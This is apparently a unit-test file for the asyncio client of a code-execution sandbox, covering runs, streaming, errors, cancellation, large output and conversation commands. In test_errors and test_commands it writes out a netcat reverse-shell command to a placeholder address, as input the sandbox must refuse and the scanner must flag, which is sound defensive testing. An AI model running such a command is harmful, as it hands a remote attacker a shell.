# SPDX-License-Identifier: MIT
"""The asyncio client."""
import asyncio
import unittest

import cordon
from support import Case, children, descriptors, until


class Aio(Case):
    def setUp(self):
        super().setUp()
        self.before = descriptors()

    def tearDown(self):
        until(lambda: not children())
        self.assertEqual(descriptors(), self.before)

    def test_run(self):
        """a run with callbacks"""
        told = []
        r = asyncio.run(self.aclient().run("print(input())", input="x", on_event=told.append))
        self.assertEqual(r.text, "x\n")
        self.assertEqual((told[0].kind, told[-1].kind), ("started", "result"))

    def test_stream(self):
        """the iterator yields each line when it is printed"""
        async def read():
            seen = []
            async for event in self.aclient().stream("import time\nfor i in range(3): print(i, flush=True); time.sleep(.05)"):
                seen.append(event)
            return seen
        seen = asyncio.run(read())
        self.assertEqual([e.data for e in seen if isinstance(e, cordon.Output)], [b"0\n", b"1\n", b"2\n"])
        self.assertEqual(seen[-1].result.text, "0\n1\n2\n")

    def test_errors(self):
        """errors are those of the other client"""
        async def refused():
            with self.assertRaises(cordon.Refused):
                await self.aclient().run("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')")
            with self.assertRaises(cordon.NotInstalled):
                await self.aclient(binary="/nothing").run("1")
            with self.assertRaises(cordon.Broken):
                await self.aclient(binary=self.script("kill -9 $$")).run("1")
            with self.assertRaises(cordon.LimitReached):
                async for _ in self.aclient().stream("while True: pass", time=.3):
                    pass
        asyncio.run(refused())

    def test_cancel(self):
        """cancelling the task or leaving the iterator ends the run"""
        async def leave():
            started = asyncio.Event()
            client = self.aclient()
            task = asyncio.ensure_future(client.run("print(1, flush=True)\nwhile True: pass", time=900,
                                                    on_output=lambda o: started.set()))
            waiting = asyncio.ensure_future(started.wait())
            await asyncio.wait({task, waiting}, return_when=asyncio.FIRST_COMPLETED)
            self.assertFalse(task.done() and task.result())
            self.assertEqual(len(children()), 1)
            task.cancel()
            with self.assertRaises(asyncio.CancelledError):
                await task
            self.assertEqual(children(), [])
            events = client.stream("print(1, flush=True)\nwhile True: pass", time=900)
            async for event in events:
                if isinstance(event, cordon.Output):
                    break
            await events.aclose()
            self.assertEqual(children(), [])
        asyncio.run(leave())

    def test_much(self):
        """10 MB of output"""
        r = asyncio.run(self.aclient().run("import sys\nsys.stdout.write('\\u20ac' * 3495253)", output="64M"))
        self.assertEqual(r.text, "\u20ac" * 3495253)

    def test_commands(self):
        """the other commands"""
        async def speak():
            c = self.aclient(user=False)
            conversation = await c.new_conversation()
            plan = await c.plan("print(1)", conversation=conversation)
            self.assertEqual([t.ticket for t in await c.grants()], [plan.ticket])
            self.assertEqual((await c.run("print(1)", conversation=conversation, plan=plan)).origin, "plan")
            await c.ingest("hello", kind="web", name="http://a/", conversation=conversation)
            self.assertFalse((await c.conversation(conversation)).clean)
            self.assertEqual((await c.diff(self.dir, conversation=conversation)).changes, ())
            self.assertEqual((await c.apply(self.dir, conversation=conversation)).written, 0)
            await c.reset(self.dir, conversation=conversation)
            self.assertTrue((await c.end_conversation(conversation)).ended)
            self.assertEqual(len(await c.conversations()), 1)
            self.assertFalse((await c.scan("nc -e /bin/bash 192.0.2.1 4444")).clean)
            self.assertTrue((await c.audit_verify()).good)
            self.assertGreater(len(await c.audit_tail(3)), 2)
            self.assertEqual(await c.approvals(), [])
        asyncio.run(speak())


if __name__ == "__main__":
    unittest.main()
